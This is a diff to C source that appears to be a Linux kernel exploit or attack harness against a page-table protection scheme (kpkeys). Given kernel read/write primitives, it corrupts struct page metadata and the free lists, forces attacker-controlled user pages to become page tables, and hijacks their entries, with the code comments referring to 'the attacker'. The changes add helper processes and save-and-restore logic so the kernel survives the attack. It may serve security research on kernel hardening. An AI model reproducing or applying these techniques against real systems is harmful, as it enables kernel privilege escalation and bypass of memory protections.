@@ -56,16 +56,26 @@ static void insert(u64 entry, u64 head)
 	shared->nr_writes = writes + 4;
 }
 
+static unsigned int nr_cached(u64 cache)
+{
+	u64 nr = lookup("kpkeys_cache.nr");
+
+	return kernel_read(cache + (nr & ~7ULL)) >> (nr & 4 ? 32 : 0);
+}
+
 /* The pool's cache of CPU 0: its slot number @n from the top. */
 static u64 cache_slot(unsigned int n)
 {
 	u64 cache = per_cpu(lookup("kpkeys_cache"), 0);
-	uint32_t nr = kernel_read(cache + (lookup("kpkeys_cache.nr") & ~7ULL)) >>
-		      (lookup("kpkeys_cache.nr") & 4 ? 32 : 0);
+	unsigned int tables = 0;
 
-	if (nr <= n)
-		die("the cache has %u pages only", nr);
-	return cache + lookup("kpkeys_cache.pages") + 8 * (nr - 1 - n);
+	/* An empty one is filled when the next table is needed. */
+	while (nr_cached(cache) <= n) {
+		if (++tables > MAX_TABLES)
+			die("the cache has %u pages only", nr_cached(cache));
+		*(volatile char *)table_range(200 + tables) = 1;
+	}
+	return cache + lookup("kpkeys_cache.pages") + 8 * (nr_cached(cache) - 1 - n);
 }
 
 /* Makes @page the next one that becomes a page table on CPU 0. */
@@ -87,25 +97,30 @@ static void hand_out_next(u64 page)
  * To tidy up
  */
 
-struct saved_page {
-	u64 page;
-	u64 words[8];
+struct saved_pages {
+	u64 page;		/* the first struct page */
+	unsigned long nr;	/* words */
+	u64 *words;
 };
 
-static void save_page(struct saved_page *saved, u64 page)
+static void save_pages(struct saved_pages *saved, u64 page, unsigned long nr)
 {
-	unsigned int i;
+	unsigned long i;
 
 	saved->page = page;
-	for (i = 0; i < ARRAY_SIZE(saved->words); i++)
+	saved->nr = nr * lookup("sizeof page") / 8;
+	saved->words = malloc(saved->nr * 8);
+	if (!saved->words)
+		die("no memory");
+	for (i = 0; i < saved->nr; i++)
 		saved->words[i] = kernel_read(page + 8 * i);
 }
 
-static void restore_page(const struct saved_page *saved)
+static void restore_pages(const struct saved_pages *saved)
 {
-	unsigned int i;
+	unsigned long i;
 
-	for (i = 0; i < ARRAY_SIZE(saved->words); i++)
+	for (i = 0; i < saved->nr; i++)
 		restore(saved->page + 8 * i, saved->words[i]);
 }
 
@@ -176,14 +191,14 @@ static int handed_out_again(void)
 	char *range = two_tables(0), *other = two_tables(1) + PMD_SIZE;
 	u64 slot = entry_slot(leak.pgd, range, 2), old = kernel_read(slot);
 	u64 page = struct_page(slot);
-	struct saved_page saved;
+	struct saved_pages saved;
 
 	run_on_cpu(0);
 	flush();
-	save_page(&saved, page);
+	save_pages(&saved, page, 1);
 	hand_out_next(page);
 	steal_with_both(range, other, entry_slot(leak.pgd, other, 2), slot, old);
-	restore_page(&saved);
+	restore_pages(&saved);
 	return DONE;
 }
 
@@ -191,7 +206,7 @@ static int handed_out_again(void)
 static int handed_out_twice(void)
 {
 	char *other = two_tables(0) + PMD_SIZE, *range = private_range(1);
-	struct saved_page saved;
+	struct saved_pages saved;
 	u64 slot;
 
 	run_on_cpu(0);
@@ -199,7 +214,7 @@ static int handed_out_twice(void)
 		kernel_write(cache_slot(1), kernel_read(cache_slot(0)));
 	*(volatile char *)other = 1;
 	slot = table_of(other, 1);
-	save_page(&saved, struct_page(slot));
+	save_pages(&saved, struct_page(slot), 1);
 	if (!protected)
 		hand_out_next(struct_page(slot));
 	/* The first table that this needs is one of level 2. */
@@ -207,27 +222,54 @@ static int handed_out_twice(void)
 	if (entry_slot(leak.pgd, range, 2) != slot)
 		return GAINED_NOTHING;
 	steal_with_both(range, other, entry_slot(leak.pgd, other, 2), slot, kernel_read(slot));
-	restore_page(&saved);
+	restore_pages(&saved);
 	return DONE;
+}
+
+/*
+ * What may get the attacker killed is done by a process that shares its memory, so
+ * that this one can put struct pages back: the kernel must not trip over them when
+ * it is all over.
+ */
+struct user_memory {
+	volatile u64 *page;	/* for the kernel to take */
+	char *range;		/* what needs a new table */
+	char **of;		/* addresses of pages, by frame */
+	unsigned long nr;	/* pages */
+	char *tables;
+};
+
+static int use_ordinary_page(void *arg)
+{
+	struct user_memory *m = arg;
+	u64 slot;
+
+	*(volatile char *)m->range = 1;
+	slot = entry_slot(leak.pgd, m->range, 2);
+	if (kernel_address(kernel_read(slot)) != address_of((void *)m->page))
+		return 0;
+	steal_with_table(m->page, m->range);
+	write_entry(m->page, m->range, slot, empty_entry());
+	return 0;
 }
 
 /* A page of user memory becomes a page table. */
 static int ordinary_page(void)
 {
-	u64 *chunk = map_at(NULL, PAGE_SIZE, MAP_SHARED), page, slot;
-	/* Locked pages are on no list of the kernel's, once there are many. */
-	volatile u64 *user = map_at(NULL, 64 * PAGE_SIZE, MAP_SHARED | MAP_LOCKED | MAP_POPULATE);
-	char *range = two_tables(0) + PMD_SIZE;
-	struct saved_page saved;
+	u64 *chunk = map_at(NULL, PAGE_SIZE, MAP_SHARED), page;
+	struct user_memory m = {
+		/* Locked pages are on no list of the kernel's, once there are many. */
+		.page = map_at(NULL, 64 * PAGE_SIZE, MAP_SHARED | MAP_LOCKED | MAP_POPULATE),
+		.range = two_tables(0) + PMD_SIZE,
+	};
+	struct saved_pages saved;
 
-	if (protected)
-		return not_possible("the pool refuses the page, and the process then waits for ever");
 	memset(chunk, 0, PAGE_SIZE);
 	run_on_cpu(0);
 	flush();
 
-	page = struct_page(address_of((void *)user));
-	save_page(&saved, page);
+	page = struct_page(address_of((void *)m.page));
+	save_pages(&saved, page, 1);
 	if (protected) {
 		u64 mapping = lookup("page.mapping");
 		u64 real = kernel_read(kernel_read(cache_slot(0)) + mapping);
@@ -240,14 +282,25 @@ static int ordinary_page(void)
 		kernel_write(page + mapping, address_of(chunk));
 	}
 	hand_out_next(page);
-	*(volatile char *)range = 1;
-	slot = entry_slot(leak.pgd, range, 2);
-	if (kernel_address(kernel_read(slot)) != address_of((void *)user))
-		return GAINED_NOTHING;
-	steal_with_table(user, range);
-	write_entry(user, range, slot, empty_entry());
-	restore_page(&saved);
+	ended_well(start(use_ordinary_page, &m));
+	restore_pages(&saved);
 	return DONE;
+}
+
+static int use_mapped_memory(void *arg)
+{
+	struct user_memory *m = arg;
+	unsigned long i, j;
+
+	for (j = 0; j < MAX_TABLES; j++) {
+		char *range = m->tables + j * PMD_SIZE;
+
+		*(volatile char *)range = 1;
+		for (i = 0; i < m->nr; i++)
+			if (*(volatile u64 *)m->of[i] != ~0ULL && *(volatile u64 *)m->of[i])
+				return stay(steal_with_table((u64 *)m->of[i], range));
+	}
+	return 0;
 }
 
 /*
@@ -257,25 +310,25 @@ static int ordinary_page(void)
 static int freed_while_mapped(void)
 {
 	unsigned long nr = (2UL << 20) / PAGE_SIZE, total = 8 * nr, i, j, run = 0;
-	u64 *frames, first = 0, area;
-	char *memory, **of, *tables;
+	u64 *frames, first = 0, area, page;
+	struct user_memory m = { .nr = nr };
+	struct saved_pages saved;
+	char *memory;
 
 	if (!protected)
 		return ordinary_page();
-	if (on_arch("um"))
-		return not_possible("the pool refuses the memory, and UML does not survive it");
 
 	memory = mmap(NULL, total * PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
 		      MAP_ANONYMOUS | MAP_POPULATE | MAP_LOCKED, -1, 0);
-	tables = mmap(NULL, (MAX_TABLES + 1) * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
-		      MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
-	of = malloc(nr * sizeof(*of));
-	if (memory == MAP_FAILED || tables == MAP_FAILED || !of)
+	m.tables = mmap(NULL, (MAX_TABLES + 1) * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
+			MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	m.of = malloc(nr * sizeof(*m.of));
+	if (memory == MAP_FAILED || m.tables == MAP_FAILED || !m.of)
 		die("cannot map memory");
-	tables = (char *)(((uintptr_t)tables + PMD_SIZE - 1) & ~(PMD_SIZE - 1));
+	m.tables = (char *)(((uintptr_t)m.tables + PMD_SIZE - 1) & ~(PMD_SIZE - 1));
 	madvise(memory, total * PAGE_SIZE, MADV_DONTFORK);
-	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
-	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);
+	madvise(m.tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
+	madvise(m.tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);
 
 	/* A whole block of the attacker's: nothing else is to become read-only. */
 	frames = frames_of(memory, total);
@@ -286,31 +339,28 @@ static int freed_while_mapped(void)
 		for (j = run = 0; j < total; j++) {
 			if (frames[j] < first || frames[j] - first >= nr)
 				continue;
-			of[frames[j] - first] = memory + j * PAGE_SIZE;
+			m.of[frames[j] - first] = memory + j * PAGE_SIZE;
 			run++;
 		}
 	}
 	if (run < nr)
 		return not_possible("no block of contiguous memory");
 	for (i = 0; i < nr; i++)
-		*(volatile u64 *)of[i] = ~0ULL;
+		*(volatile u64 *)m.of[i] = ~0ULL;
 
 	/* As in a page that has been freed. */
-	kernel_write(leak.memmap + first * lookup("sizeof page") + lookup("page.memcg_data"), 0);
+	page = leak.memmap + first * lookup("sizeof page");
+	save_pages(&saved, page, nr);
+	kernel_write(page + lookup("page.memcg_data"), 0);
 	area = zone() + lookup("zone.free_area") + __builtin_ctzl(nr) * lookup("sizeof free_area");
-	insert(leak.memmap + first * lookup("sizeof page") + lookup("page.lru"), area);
+	insert(page + lookup("page.lru"), area);
 	area += lookup("sizeof free_area") - 8;
 	kernel_write(area, kernel_read(area) + 1);
 
-	for (j = 0; j < MAX_TABLES; j++) {
-		char *range = tables + j * PMD_SIZE;
-
-		*(volatile char *)range = 1;
-		for (i = 0; i < nr; i++)
-			if (*(volatile u64 *)of[i] != ~0ULL && *(volatile u64 *)of[i])
-				return stay(steal_with_table((u64 *)of[i], range));
-	}
-	return GAINED_NOTHING;
+	if (ended_well(start(use_mapped_memory, &m)))
+		return DONE;
+	restore_pages(&saved);
+	return DONE;
 }
 
 /* A live page table is in the list of those that lose their pkey. */
